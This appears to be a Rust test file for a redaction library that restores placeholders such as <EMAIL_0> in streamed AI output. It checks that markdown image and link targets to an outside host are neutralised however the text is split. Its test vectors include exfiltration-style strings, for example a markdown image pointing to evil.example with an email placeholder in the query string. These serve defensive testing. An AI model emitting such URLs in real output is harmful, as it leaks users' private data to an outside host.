//! Vectors of answers that carry data away, or seem to, for every division into pieces.
//!
//! ```text
//! ![x](https://evil.example/?q=<EMAIL_0>)   =>   ![x](about:blank#lethe-neutralised)
//! ```
//!
//! Invariant: what leaves is what the file says, whole, cut in two, cut in three, letter by letter.

use super::Draws;
use super::restoring::read;
use lethe_core::redact::{Action, Entity, Origin, Place, Restored, Restorer, Restoring, Returning, Vault};

const BOUND: usize = (2 << 10) + 200;

struct Vector {
    wrote: String,
    leaves: String,
}

fn vectors(file: &str) -> Vec<Vector> {
    let plain = |text: &str| text.replace("\\n\n", "\n");
    let row = |row: &str| {
        let lines: Vec<&str> = row.lines().filter(|line| !line.starts_with("# ")).collect();
        let (wrote, leaves) = lines.split_at(lines.iter().position(|line| *line == "=>").unwrap());
        Vector { wrote: plain(&wrote.join("\n")), leaves: plain(&leaves[1..].join("\n")) }
    };
    file.split("----\n").map(row).collect()
}

/// Rows of prose write line ends and tabs as escapes.
fn unescaped(rows: Vec<Vector>) -> Vec<Vector> {
    let plain = |text: &str| text.replace("\\n", "\n").replace("htt\\tps", "htt\tps");
    rows.into_iter().map(|row| Vector { wrote: plain(&row.wrote), leaves: plain(&row.leaves) }).collect()
}

pub(crate) fn vault() -> Vault {
    let mut vault = Vault::new();
    vault.placeholder(Entity::Email, "bob@acme.com", Action::Redact, Origin::User);
    vault.placeholder(Entity::Email, "\"eve\"@acme.com", Action::Redact, Origin::User);
    vault.placeholder(Entity::Literal, "<EMAIL_7>", Action::Redact, Origin::User);
    vault.placeholder(Entity::OpenAiKey, "sk-original", Action::Redact, Origin::User);
    let mut hosts = lethe_core::policy::Names::new();
    hosts.insert("ok.example".into());
    vault.govern(Returning {
        restoring: Restoring { hosts: Some(hosts), ..Restoring::default() },
        ..Returning::default()
    });
    vault
}

fn check(rows: &[Vector], place: Place) -> Vec<Restored> {
    let vault = vault();
    let run = |pieces: &[&str]| read(Restorer::new(place), pieces, &vault, BOUND);
    let row = |Vector { wrote, leaves }: &Vector| {
        let (whole, counted) = run(&[wrote]);
        assert_eq!(&whole, leaves, "{wrote}");
        let cuts: Vec<usize> = (0..=wrote.len()).filter(|at| wrote.is_char_boundary(*at)).collect();
        for (at, first) in cuts.iter().enumerate() {
            for second in &cuts[at..] {
                let pieces = [&wrote[..*first], &wrote[*first..*second], &wrote[*second..]];
                assert_eq!(run(&pieces), (leaves.clone(), counted), "{pieces:?}");
            }
        }
        let letters: Vec<String> = wrote.chars().map(String::from).collect();
        let letters: Vec<&str> = letters.iter().map(String::as_str).collect();
        assert_eq!(run(&letters), (leaves.clone(), counted), "{wrote} letter by letter");
        counted
    };
    rows.iter().map(row).collect()
}

#[test]
fn prose_gets_its_originals_and_urls_do_not() {
    let rows = unescaped(vectors(include_str!("../vectors/restoring/prose.txt")));
    assert!(check(&rows, Place::Prose).iter().all(|counted| counted.neutralised == 0));
}

#[test]
fn targets_that_carry_something_away_are_neutralised() {
    let rows = unescaped(vectors(include_str!("../vectors/restoring/neutralised.txt")));
    for (row, counted) in rows.iter().zip(check(&rows, Place::Prose)) {
        let markers = row.leaves.matches("lethe-neutralised").count();
        assert_eq!(usize::try_from(counted.neutralised), Ok(markers), "{}", row.wrote);
    }
}

#[test]
fn arguments_get_their_originals_at_every_level_and_urls_do_not() {
    let rows = vectors(include_str!("../vectors/restoring/arguments.txt"));
    assert!(check(&rows, Place::ToolArguments).iter().all(|counted| counted.neutralised == 0));
}

#[test]
fn content_that_is_a_document_stays_one() {
    check(&vectors(include_str!("../vectors/restoring/content.txt")), Place::Json);
}

/// Any text, any cuts: as whole. The pieces are what the machines have states for.
#[test]
fn random_texts_leave_alike_in_any_pieces() {
    const PIECES: [&str; 44] = [
        "<EMAIL_0>",
        "<EMAIL_1",
        ">",
        "<",
        "&lt;EMAIL_1&gt;",
        "\\",
        "\\\\",
        "text ",
        "é",
        "\u{1f388}",
        "<OPENAI_KEY_0>",
        "![x](",
        "[a](",
        ")",
        "]:",
        "\n",
        "\n\n",
        "```",
        "```\n",
        "~~~",
        " ",
        "https:",
        "//",
        "/",
        "evil.example",
        "ok.example",
        "?q=",
        "EMAIL_0",
        "<img ",
        "src=",
        "\"",
        "'",
        "url(",
        "@import ",
        "<a href=",
        "<pre>",
        "{\"",
        "\":\"",
        "\"}",
        "[",
        "{",
        "\\\"",
        "\\u003c",
        "\\ud83c",
    ];
    let (vault, mut draws) = (vault(), Draws(29));
    for round in 0..4_000 {
        let text: String = (0..40).map(|_| PIECES[draws.below(PIECES.len())]).collect();
        let place = [Place::Prose, Place::Json, Place::ToolArguments][round % 3];
        let expected = read(Restorer::new(place), &[&text], &vault, BOUND);
        let mut cuts: Vec<usize> =
            (0..9).map(|_| draws.below(text.len() + 1)).filter(|cut| text.is_char_boundary(*cut)).collect();
        cuts.extend([0, text.len()]);
        cuts.sort_unstable();
        let parts: Vec<&str> = cuts.windows(2).map(|cut| &text[cut[0]..cut[1]]).collect();
        assert_eq!(read(Restorer::new(place), &parts, &vault, BOUND).0, expected.0, "{parts:?} as {place:?}");
    }
}

#[test]
fn a_target_without_an_end_is_neutralised_at_its_bound() {
    let vault = vault();
    for (start, end) in [("![x](https://evil.example/", ") <EMAIL_0>"), ("<img src=\"//evil.example/", "\"> <EMAIL_0>")]
    {
        let text = format!("{start}{}{end}", "abcdefgh".repeat(1_000));
        let expected = read(Restorer::new(Place::Prose), &[&text], &vault, BOUND);
        let (target, rest) = (text.find("//").unwrap(), end.replace("<EMAIL_0>", "bob@acme.com"));
        let before = text[..target].trim_end_matches("https:");
        assert_eq!(expected.0, format!("{before}about:blank#lethe-neutralised{rest}"));
        assert_eq!(expected.1.neutralised, 1);
        let parts: Vec<&str> = text.as_bytes().chunks(7).map(|part| std::str::from_utf8(part).unwrap()).collect();
        assert_eq!(read(Restorer::new(Place::Prose), &parts, &vault, BOUND), expected);
    }
    let picture = format!("![x](data:image/png;base64,{}) <EMAIL_0>", "a//+b0".repeat(1_000));
    let (out, counted) = read(Restorer::new(Place::Prose), &[&picture], &vault, BOUND);
    assert_eq!((out, counted.neutralised), (picture.replace("<EMAIL_0>", "bob@acme.com"), 0));
}
